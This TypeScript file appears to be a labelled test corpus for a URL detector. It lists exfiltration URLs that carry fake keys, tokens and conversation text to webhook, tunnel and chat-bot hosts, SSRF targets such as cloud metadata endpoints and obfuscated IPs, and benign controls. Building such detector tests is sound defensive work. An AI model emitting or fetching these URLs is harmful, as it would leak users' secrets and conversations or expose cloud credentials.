import type { CorpusCase } from "../types.ts";

// Fake credential-shaped values are assembled at run time so the repo never stores one.
const rnd = (n: number, abc = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") => Array.from({ length: n }, (_, i) => abc[(i * 7 + 3) % abc.length]).join("");
const awsId = "AK" + "IA" + rnd(16);
const ghTok = "gh" + "p_" + rnd(36, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789");
const b64 = (s: string) => Buffer.from(s).toString("base64");
const b64u = (s: string) => b64(s).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
const hex = (s: string) => Buffer.from(s).toString("hex");

const exfil: [string, string][] = [
  [`https://img-proxy-stats.io/p.gif?d=${encodeURIComponent(`AWS_ACCESS_KEY_ID=${awsId}`)}`, "tracking pixel w/ aws id"],
  [`https://webhook.site/3b1f0c2e-7d44-4a1e-9b2f-1c9e5a7d0f11?token=${ghTok}`, "webhook.site with gh token"],
  [`https://${hex("DB_PASSWORD=hunter2-prod").slice(0, 60)}.dnslog-collect.net/`, "hex data in subdomain"],
  [`https://paste-drop.xyz/new?content=${b64u("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n")}`, "b64 ssh key header in query"],
  [`http://45.83.12.7:8080/u?f=${encodeURIComponent("/home/dev/.aws/credentials")}&data=${b64u("[default]\naws_access_key_id=" + awsId)}`, "raw IP with file data"],
  [`https://collector.example-telemetry.dev/ingest/${b64u(JSON.stringify({ env: { OPENAI_API_KEY: "sk-" + rnd(40, "abcdefghijklmnopqrstuvwxyz0123456789") } }))}`, "b64 json env in path"],
  [`https://hooks.slack-notify.co/services/relay?text=${encodeURIComponent("conversation: user asked about payroll; system prompt: You are FinBot...")}`, "conversation exfil in query"],
  [`https://burp-collab.oastify.com/?q=${b64u("id_rsa contents here")}`, "oast collaborator"],
  [`https://abc123.ngrok-free.app/log?k=${ghTok}`, "ngrok tunnel w/ token"],
  [`https://api.telegram.org/bot000000:AAfake/sendMessage?chat_id=99&text=${encodeURIComponent(".env: STRIPE_SECRET=" + "sk_" + "live_" + rnd(24, "abcdefghijklmnopqrstuvwxyz0123456789"))}`, "telegram bot send w/ stripe key"],
  [`https://discord.com/api/webhooks/123456789012345678/${rnd(68, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789_-")}?content=${encodeURIComponent("ssh key: " + b64("private"))}`, "discord webhook exfil"],
  [`https://pipedream-sink.m.pipedream.net/?h=${hex("HOME=/home/dev;GITHUB_TOKEN=" + ghTok)}`, "pipedream hex env"],
];
const ssrf: [string, string][] = [
  ["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "aws imds"],
  ["http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "gcp metadata"],
  ["http://[::ffff:a9fe:a9fe]/latest/user-data", "ipv6-mapped imds"],
  ["http://0xA9FEA9FE/latest/meta-data/", "hex IP imds"],
  ["http://2852039166/computeMetadata/v1/", "decimal IP imds"],
  ["http://127.0.0.1:2375/containers/json", "docker socket over tcp localhost"],
  ["http://localhost:8500/v1/kv/?recurse", "consul kv dump"],
  ["http://169.254.170.2/v2/credentials/" + "3f1c2e9a-0b7d-4c55-9e21-6a8d4f0b1c7e", "ECS task creds"],
];

const benign: [string, string][] = [
  ["https://github.com/oven-sh/bun/issues/4218", "gh issue"],
  ["https://www.google.com/search?q=bun+test+coverage+threshold&hl=en", "google search"],
  ["https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_access-keys.html", "aws docs about keys"],
  ["https://stackoverflow.com/questions/43386267/how-to-prevent-ssrf-attacks-in-node-js", "SO ssrf question"],
  ["https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s", "youtube"],
  ["https://en.wikipedia.org/wiki/Prompt_injection", "wikipedia"],
  ["https://www.amazon.co.uk/dp/B08N5WRWNW/ref=sr_1_3?crid=2X1YQ&keywords=usb+c+hub&qid=1716200000&sr=8-3", "amazon with tracking params"],
  ["https://registry.npmjs.org/typescript/-/typescript-5.4.5.tgz", "npm tarball"],
  ["https://raw.githubusercontent.com/microsoft/TypeScript/main/README.md", "raw github"],
  ["https://fonts.googleapis.com/css2?family=Inter:wght@400;600&display=swap", "google fonts"],
  ["https://app.slack.com/client/T024BE7LD/C01ABCDEF12", "slack client url"],
  ["https://calendar.google.com/calendar/render?action=TEMPLATE&text=Standup&dates=20240611T090000Z/20240611T091500Z", "calendar template"],
  ["https://www.linkedin.com/in/some-engineer/?utm_source=share&utm_campaign=share_via&utm_content=profile&utm_medium=ios_app", "linkedin utm"],
  ["https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=00000000-0000-0000-0000-000000000000&response_type=code&redirect_uri=https%3A%2F%2Flocalhost%3A3000%2Fauth%2Fcallback&scope=openid%20profile&state=12345", "oauth authorize with localhost redirect"],
  ["https://pypi.org/project/requests/2.32.3/", "pypi"],
  ["https://cdn.jsdelivr.net/npm/chart.js@4.4.1/dist/chart.umd.min.js", "cdn"],
  ["https://status.cloud.google.com/incidents/xYz123", "status page"],
  ["https://www.figma.com/file/AbCdEf123456/Design-System?type=design&node-id=12-345&mode=design", "figma"],
  ["https://maps.google.com/?q=51.5007,-0.1246", "maps coords"],
  ["https://api.github.com/repos/microsoft/vscode/pulls?state=open&per_page=50", "github api"],
];

export const cases: CorpusCase[] = [
  ...exfil.map(([text, note], i): CorpusCase => ({ id: `hc-url-x${String(i + 1).padStart(2, "0")}`, kind: "url", category: "heldoutc-url-exfil", label: "positive", text, note })),
  ...ssrf.map(([text, note], i): CorpusCase => ({ id: `hc-url-s${String(i + 1).padStart(2, "0")}`, kind: "url", category: "heldoutc-url-ssrf", label: "positive", text, note })),
  ...benign.map(([text, note], i): CorpusCase => ({ id: `hc-url-b${String(i + 1).padStart(2, "0")}`, kind: "url", category: "heldoutc-url-benign", label: "benign", text, note })),
];
